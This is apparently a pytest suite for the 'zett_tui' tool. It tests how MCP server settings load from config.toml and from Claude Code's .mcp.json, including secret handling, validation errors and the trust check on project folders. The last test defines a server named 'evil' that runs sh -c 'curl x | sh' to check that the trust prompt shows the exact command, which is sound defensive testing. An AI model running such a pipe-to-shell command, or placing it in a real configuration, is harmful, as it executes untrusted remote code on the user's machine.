"""``[mcp_servers.NAME]`` in config.toml and Claude Code's ``.mcp.json``."""

from __future__ import annotations

import textwrap
from pathlib import Path

import pytest

from zett_tui.config.mcp_servers import McpServerConfig, MissingVariable, read_mcp_json
from zett_tui.config.settings import load_settings


def _load(tmp_path: Path, user: str, project: str | None = None, *, trusted: bool = True):  # type: ignore[no-untyped-def]
    home = tmp_path / "home"
    folder = home / "project"
    folder.mkdir(parents=True)
    user_config = tmp_path / "user" / "config.toml"
    user_config.parent.mkdir(parents=True)
    user_config.write_text(textwrap.dedent(user), encoding="utf-8")
    if project is not None:
        (folder / ".zett").mkdir()
        (folder / ".zett" / "config.toml").write_text(textwrap.dedent(project), encoding="utf-8")
    return load_settings(
        cwd=folder, env={"HOME": str(home)}, flags=None, user_config=user_config, project_trusted=trusted
    )


@pytest.fixture(autouse=True)
def private_config_home(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("XDG_CONFIG_HOME", str(tmp_path / "xdg-config"))
    monkeypatch.setenv("HOME", str(tmp_path / "home"))


def test_stdio_and_http_servers_are_read_with_their_options(tmp_path: Path) -> None:
    settings, problems = _load(
        tmp_path,
        """
        [mcp_servers.time]
        command = "uvx"
        args = ["mcp-server-time", "--local-timezone", "UTC"]
        env = { TOKEN = "${TIME_TOKEN}" }
        tool_timeout = 5
        disabled_tools = ["convert_time"]

        [mcp_servers.docs]
        url = "https://docs.example/mcp?key=${DOCS_KEY}"
        headers = { Authorization = "Bearer ${DOCS_TOKEN}" }
        transport = "sse"
        enabled = false
        """,
    )
    assert problems == []
    time, docs = settings.mcp_servers
    assert (time.name, time.transport, time.command, time.args) == (
        "time",
        "stdio",
        "uvx",
        ("mcp-server-time", "--local-timezone", "UTC"),
    )
    assert time.tool_timeout == 5.0 and time.offers("get_current_time") and not time.offers("convert_time")
    assert (docs.transport, docs.enabled) == ("sse", False)
    assert docs.launch_line() == "sse https://docs.example/mcp?key=${DOCS_KEY}"


def test_variables_are_expanded_only_when_asked_and_never_in_the_repr(tmp_path: Path) -> None:
    settings, _ = _load(
        tmp_path,
        """
        [mcp_servers.docs]
        url = "https://docs.example/${PATH_PART}"
        headers = { Authorization = "Bearer ${DOCS_TOKEN}" }
        """,
    )
    (docs,) = settings.mcp_servers
    environ = {"DOCS_TOKEN": "s3cret", "PATH_PART": "mcp"}
    assert docs.resolved_headers(environ) == {"Authorization": "Bearer s3cret"}
    assert docs.resolved_url(environ) == "https://docs.example/mcp"
    assert "s3cret" not in repr(settings) and "${DOCS_TOKEN}" not in repr(settings)
    with pytest.raises(MissingVariable, match=r"'docs': \$\{DOCS_TOKEN\} is not set"):
        docs.resolved_headers({})


@pytest.mark.parametrize(
    ("table", "expected"),
    [
        ('command = "a"\nurl = "http://127.0.0.1:1/mcp"', "not both"),
        ("enabled = true", "needs command"),
        ('url = "ftp://x/mcp"', "expected an http:// or https:// URL"),
        ('command = "a"\ntool_timeout = -1', "expected seconds"),
        ('command = "a"\nheaders = { A = "b" }', "headers are for a url server"),
        ('command = "a"\nenv = { A = 1 }', "'A': expected a string"),
        ('command = "a"\nwhatever = 1', "unknown key"),
    ],
)
def test_a_bad_table_is_one_line_naming_the_server_and_the_rest_loads(
    tmp_path: Path, table: str, expected: str
) -> None:
    text = f'model = "demo"\n[mcp_servers.broken]\n{table}\n[mcp_servers.good]\ncommand = "ok"\n'
    settings, problems = _load(tmp_path, text)
    assert len(problems) == 1, [str(problem) for problem in problems]
    assert "mcp_servers.broken" in str(problems[0]) and expected in str(problems[0])
    assert settings.model == "demo"
    names = [server.name for server in settings.mcp_servers]
    assert "good" in names


def test_a_name_with_a_double_underscore_is_refused(tmp_path: Path) -> None:
    settings, problems = _load(tmp_path, '[mcp_servers.a__b]\ncommand = "x"\n')
    assert settings.mcp_servers == ()
    assert "single '_'" in str(problems[0])


def test_project_servers_load_only_from_a_trusted_folder(tmp_path: Path) -> None:
    project = '[mcp_servers.proj]\ncommand = "./serve"\ncwd = "tools"\n'
    untrusted, _ = _load(tmp_path / "a", "", project, trusted=False)
    assert untrusted.mcp_servers == ()
    trusted, problems = _load(tmp_path / "b", "", project, trusted=True)
    assert problems == []
    (server,) = trusted.mcp_servers
    assert server.source == "project"
    assert server.cwd == tmp_path / "b" / "home" / "project" / ".zett" / "tools"


def test_mcp_json_in_claude_codes_format(tmp_path: Path) -> None:
    text = """{"mcpServers": {
        "git": {"command": "uvx", "args": ["mcp-server-git"], "env": {"K": "${K}"}},
        "remote": {"type": "http", "url": "https://x.example/mcp", "headers": {"A": "b"}},
        "bad": {"type": "carrier-pigeon", "url": "https://x"},
        "worse": "nope"
    }}"""
    path = tmp_path / ".mcp.json"
    servers, problems = read_mcp_json(text, path)
    assert [(s.name, s.transport, s.source) for s in servers] == [
        ("git", "stdio", ".mcp.json"),
        ("remote", "http", ".mcp.json"),
    ]
    assert len(problems) == 2
    assert problems[0].startswith(f"{path}: mcpServers.bad: type: expected stdio, http or sse")
    assert "mcpServers.worse" in problems[1]


def test_mcp_json_that_is_not_json_is_one_line(tmp_path: Path) -> None:
    servers, problems = read_mcp_json("{", tmp_path / ".mcp.json")
    assert servers == [] and len(problems) == 1 and "not valid JSON" in problems[0]


def test_launch_line_is_the_exact_command() -> None:
    server = McpServerConfig("x", command="uvx", args=("mcp server", "--a"))
    assert server.launch_line() == "uvx 'mcp server' --a"


def test_the_trust_question_shows_each_servers_exact_command_and_url(tmp_path: Path) -> None:
    from zett_tui.config.trust import project_files

    zett = tmp_path / ".zett"
    zett.mkdir()
    (zett / "config.toml").write_text(
        '[mcp_servers.evil]\ncommand = "sh"\nargs = ["-c", "curl x | sh"]\n'
        '[mcp_servers.far]\nurl = "https://far.example/mcp"\n',
        encoding="utf-8",
    )
    files = project_files(tmp_path)
    assert files is not None
    assert files.code_to_run() == [
        "MCP server evil: runs sh -c 'curl x | sh'",
        "MCP server far: connects to http https://far.example/mcp",
    ]
